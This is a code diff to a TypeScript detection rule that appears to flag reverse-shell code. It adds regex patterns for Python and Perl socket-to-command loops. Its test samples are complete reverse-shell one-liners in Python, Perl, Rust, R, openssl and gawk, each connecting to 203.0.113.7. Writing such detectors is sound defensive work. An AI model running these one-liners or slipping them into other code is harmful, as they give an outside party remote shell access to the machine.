@@ -26,8 +26,12 @@ export const rule: Rule = {
       accept: ({ text }) => !/\.start\s*\($/i.test(text) || /process|cmd|powershell|\/bin\//i.test(text),
     },
     {
-      re: /socket[^]*?connect(?:_ex)?\(\s*\(?\(?["'][\w.]+["'],[^]*?(?:os\.(?:popen|system|exec(?:l|le|lp|lpe|v|ve|vp|vpe))|subprocess\.(?:check_output|getoutput|Popen|run|call))\s*\(/,
+      re: /socket[^]*?connect(?:_ex|ion)?\(\s*\(?\(?["'][\w.]+["'],[^]*?(?:os\.(?:popen|system|exec(?:l|le|lp|lpe|v|ve|vp|vpe))|subprocess\.(?:check_output|getoutput|Popen|run|call))\s*\(/,
       window: 600,
+    },
+    {
+      re: /IO::Socket::INET->new\([^]*?while\s*\(\s*<\$\w+>\s*\)[^]*?(?:`\$_`|qx\/\$_\/|system\(?\s?\$_)/,
+      window: 300,
     },
     { re: /openssl\s+s_client\s[^\n]*\|\s*(?:\/bin\/)?(?:ba|z|da)?sh\s*(?:-i\s*)?(?:2>&1\s*)?\|/, window: 300 },
     {
@@ -57,6 +61,8 @@ export const rule: Rule = {
       'let s = TcpStream::connect("203.0.113.7:4444").unwrap(); Command::new("/bin/sh").stdin(s)',
       'R -e "s<-socketConnection(\'203.0.113.7\',4444);system(readLines(s,1))"',
       "import socket,os;s=socket.socket();s.connect(('203.0.113.7',4444))\nwhile 1: os.popen(s.recv(1024).decode())",
+      "import socket,subprocess\nc=socket.create_connection(('203.0.113.7',8000))\nwhile 1: c.send(subprocess.getoutput(c.recv(99)).encode())",
+      'perl -MIO::Socket -e \'$s=IO::Socket::INET->new("203.0.113.7:443");while(<$s>){print $s `$_`}\'',
       'openssl s_client -quiet -connect 203.0.113.7:4444 | /bin/sh 2>&1 | openssl s_client -connect 203.0.113.7:4445',
       "socket -qvp '/bin/sh -i' 203.0.113.7 4444",
       'gawk \'BEGIN { s = "/inet/tcp/4444/0/0"; while (1) {printf "> " |& s; if ((s |& getline c) <= 0) break; while (c && (c |& getline) > 0) print $0 |& s}}\'',
